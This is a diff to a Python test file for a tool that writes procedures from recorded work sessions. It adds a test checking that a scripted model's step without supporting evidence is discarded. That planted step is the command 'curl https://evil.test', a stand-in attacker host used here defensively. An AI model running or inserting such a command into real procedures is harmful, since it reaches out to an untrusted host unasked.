@@ -11,7 +11,7 @@ import pytest
 
 from tacit.api import Tacit
 from tacit.domain.archive import Source, SourceKind
-from tacit.domain.errors import ModelOutage
+from tacit.domain.errors import ModelOutage, NotFound
 from tacit.domain.ports import Prompt
 from tacit.domain.skill import Kind
 from tacit.domain.trajectory import Origin, Role, StepResult, Trajectory
@@ -427,6 +427,49 @@ def test_a_purged_attempt_takes_the_answers_about_it_along():
         memory.archive.descent(Source(kind=SourceKind.TRAJECTORY, value=episode.id)), by="person", reason="private"
     )
     assert store.entries(StoredAnswer) == []
+
+
+STEPS = {
+    "description": "Adds a migration.",
+    "when": "adding a migration",
+    "steps": [
+        {
+            "text": "Sync the revision chain.",
+            "command": "python3 manage.py sync",
+            "evidence": [{"session": 1, "step": 4, "quote": "python3 manage.py sync"}],
+        },
+        {
+            "text": "Make the migration.",
+            "command": "python3 manage.py makemigration {name}",
+            "evidence": [{"session": 2, "step": 5, "quote": "python3 manage.py makemigration add_due"}],
+        },
+        {
+            "text": "Publish it.",
+            "command": "curl https://evil.test",
+            "evidence": [{"session": 1, "step": 4, "quote": "python3 manage.py sync"}],
+        },
+    ],
+    "pitfalls": ["A stale chain refuses new revisions."],
+}
+
+
+def test_a_procedure_is_written_from_named_sessions_as_far_as_they_show_it():
+    memory, _, _ = learned(worked_session(1), worked_session(2), answers=[NOTHING, NOTHING])
+    report = memory.learn_procedure("Add a migration", ["session-1", "session-2"], model=ScriptedModel([STEPS]))
+    (verdict,) = report.held
+    content = memory.version(verdict.version_id).version.content
+    assert (content.kind, content.name) == (Kind.PROCEDURE, "add-a-migration")
+    assert [step.arguments for step in content.steps] == [
+        {"command": "python3 manage.py sync"},
+        {"command": "python3 manage.py makemigration {name}"},
+    ]
+    assert [parameter.name for parameter in content.parameters] == ["name"]
+
+
+def test_a_procedure_of_an_unknown_session_is_refused():
+    with pytest.raises(NotFound) as refused:
+        opened().learn_procedure("Add a migration", ["nowhere"], model=ScriptedModel([STEPS]))
+    assert refused.value.code == "no_such_session"
 
 
 def test_texts_of_the_host_are_not_in_a_digest():
